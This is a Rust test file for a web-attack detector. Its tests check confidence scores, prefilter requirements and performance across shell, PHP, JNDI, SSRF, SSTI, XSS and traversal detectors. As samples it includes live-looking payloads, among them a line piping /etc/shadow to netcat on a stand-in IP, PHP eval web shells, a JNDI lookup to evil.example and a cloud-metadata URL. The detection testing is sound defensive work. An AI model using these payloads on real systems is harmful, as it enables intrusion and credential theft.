//! What holds for every detector.

use std::path::Path;

use super::probe::{REPEATED, steps_of};
use super::*;

/// Whether the prefilter would ask: what `compile::prefilter` does, said plainly.
fn satisfies(value: &[u8], requirement: &Requirement) -> bool {
    let Requirement::Any(branches) = requirement else { return true };
    let lower = value.to_ascii_lowercase();
    let mask = ByteMask::scan(value);
    branches.iter().any(|branch| {
        let literal = branch.literals.is_empty()
            || branch.literals.iter().any(|literal| memchr::memmem::find(&lower, literal).is_some());
        literal && branch.bytes.iter().all(|bytes| bytes.intersects(mask))
    })
}

/// The confidence of a detector in a value, 0 without a finding; checks the requirement and the span on the way.
pub(super) fn confidence(detector: Detector, value: &[u8], context: Context) -> u8 {
    let Some(finding) = detector.find(value, context) else { return 0 };
    assert!(finding.confidence <= 100 && !finding.path.is_empty());
    assert!(value.get(finding.span.clone()).is_some(), "{:?} lies in {}", finding.span, value.escape_ascii());
    assert!(satisfies(value, &detector.requirement()), "the prefilter asks for {}", value.escape_ascii());
    finding.confidence
}

/// Every attack reaches `least`, every honest value stays under 40; all that fail are named.
pub(super) fn check_table(detector: Detector, context: Context, least: u8, attacks: &[&str], honest: &[&str]) {
    let judge =
        |value: &&str| (confidence(detector, value.as_bytes(), context), detector.find(value.as_bytes(), context));
    let missed = attacks.iter().map(|value| (value, judge(value))).filter(|(_, (sure, _))| *sure < least);
    let bothered = honest.iter().map(|value| (value, judge(value))).filter(|(_, (sure, _))| *sure >= 40);
    let lines: Vec<String> = missed
        .map(|(value, (sure, _))| format!("missed ({sure}): {value}"))
        .chain(bothered.map(|(value, (sure, found))| {
            format!("bothered ({sure}, {}): {value}", found.map_or("", |finding| finding.path))
        }))
        .collect();
    assert!(lines.is_empty(), "{} of {}:\n{}", lines.len(), attacks.len() + honest.len(), lines.join("\n"));
}

#[test]
fn what_a_text_quotes_or_mentions_counts_one_point() {
    const ASKS: &str = "请问各位老师这段脚本为什么在服务器上没有输出，应该怎么改？";
    let quoted = |code: &str| format!("{ASKS}\n```\n{code}\n```\n谢谢！");
    for (detector, code) in [
        (Detector::Shell, "x; cat /etc/shadow | nc 192.0.2.1 4444"),
        (Detector::Php, "<?php eval($_POST['a']); ?>"),
        (Detector::Node, "require('child_process').exec('id')"),
    ] {
        let value = Context::of(Place::Value);
        assert!(confidence(detector, code.as_bytes(), value) >= SURE, "{code}");
        assert_eq!(confidence(detector, quoted(code).as_bytes(), value), MENTION, "{code}");
        // A query or a file name is no place for a text with code in it.
        assert!(confidence(detector, quoted(code).as_bytes(), Context::of(Place::Cookie)) > MENTION, "{code}");
    }
    let script = "<script>alert(document.cookie)</script>";
    assert!(confidence(Detector::Xss, quoted(script).as_bytes(), Context::of(Place::Value)) >= SURE);
}

#[test]
fn words_behind_a_comment_and_broken_characters_excuse_nothing() {
    let value = Context::of(Place::Value);
    for (detector, attack) in [
        (Detector::Jndi, "${jndi:ldap://evil.example/a} #一二三四五六七八九十一二三"),
        (Detector::Jndi, "患者主诉头痛三天，请问能否改约 ${jndi:ldap://evil.example/a}"),
        (Detector::Shell, "127.0.0.1;cat /etc/passwd #一二三四五六七八九十一二三"),
        (Detector::Php, "<?php system($_GET['c']);?> #一二三四五六七八九十一二三"),
        (Detector::Ssrf, "http://169.254.169.254/latest/meta-data/#一二三四五六七八九十一二三"),
        (Detector::Ssti, "中文中文中文中文<code>{{''.__class__.__mro__[1].__subclasses__()}}</code>"),
        (Detector::Shell, "| cat /etc/passwd # | | |"),
        (Detector::Java, "中文中文中文<code>${T(java.lang.Runtime).getRuntime().exec('id')}</code>"),
    ] {
        assert!(confidence(detector, attack.as_bytes(), value) >= SURE, "{attack}");
    }
    let broken = [b"../../../../etc/passwd\0".as_slice(), &[0xe4; 12]].concat();
    assert!(confidence(Detector::Traversal, &broken, value) >= SURE);
}

#[test]
fn names_are_found_without_regard_to_case() {
    for detector in Detector::ALL {
        assert_eq!(Detector::from_name(&detector.name().to_uppercase()), Some(*detector));
    }
    assert_eq!(Detector::from_name("sql"), None);
}

#[test]
fn a_requirement_asks_for_a_literal_and_a_byte_of_each_mask() {
    let requirement = either([needs(&["UNION", "select"], &[ByteMask::of(b"'\"")]), needs(&[], &[ByteMask::of(b"<")])]);
    assert!(satisfies(b"' Union", &requirement));
    assert!(satisfies(b"a<b", &requirement));
    assert!(!satisfies(b"union", &requirement));
    assert!(!satisfies(b"'unio", &requirement));
    assert!(!satisfies(b"anything", &never()));
}

#[test]
fn every_place_is_judged() {
    for detector in Detector::ALL {
        for (place, rich_text) in Place::ALL.into_iter().flat_map(|place| [(place, false), (place, true)]) {
            for value in
                ["", "a", "1' or 1=1--", "<script>alert(1)</script>", "{{7*7}}", "x\r\nSet-Cookie: a=b", "中文"]
            {
                confidence(*detector, value.as_bytes(), Context { place, rich_text });
            }
        }
    }
}

#[test]
fn work_grows_with_the_length_of_the_value_and_no_faster() {
    let steps = |detector: Detector, pattern: &str, length: usize| {
        let value: Vec<u8> = pattern.bytes().cycle().take(length).collect();
        steps_of(|| {
            confidence(detector, &value, Context::of(Place::Value));
        })
    };
    for detector in Detector::ALL {
        for pattern in REPEATED {
            let (short, long) = (steps(*detector, pattern, 4096), steps(*detector, pattern, 65_536));
            assert!(long <= 20 * short + 100_000, "{} of {pattern:?}: {short}, {long}", detector.name());
            assert!(long <= 200 * 65_536, "{} of {pattern:?}: {long}", detector.name());
        }
    }
}

/// How often the sources (but for tests, and for the gate, which defines them) spell out one of these.
fn spelt_in_sources(words: &[&str]) -> usize {
    let mut folders = vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("src")];
    let mut count = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_str().unwrap();
            if path.is_dir() {
                folders.push(path);
            } else if !name.contains("tests") && name != "gate.rs" {
                let text = std::fs::read_to_string(&path).unwrap();
                let code = text.lines().filter(|line| !line.trim_start().starts_with("//"));
                count +=
                    code.map(|line| words.iter().map(|word| line.matches(word).count()).sum::<usize>()).sum::<usize>();
            }
        }
    }
    count
}

/// A request that meets something uncompiled pays for it out of its own budget, and is refused for it when it is large.
#[test]
fn everything_that_is_looked_for_is_compiled_beforehand() {
    prepare();
    let expected = spelt_in_sources(&["Pattern::new(", "Words::of(", " shape("]);
    assert!(expected > 200, "{expected}: the sources are read wrongly");
    assert_eq!(probe::compiled(), expected);
    assert_eq!(spelt_in_sources(&["LazyLock::new("]), spelt_in_sources(&["LazyLock::force("]));
    assert_eq!(spelt_in_sources(&["OnceLock::new(", "OnceCell::new("]), 0);
}
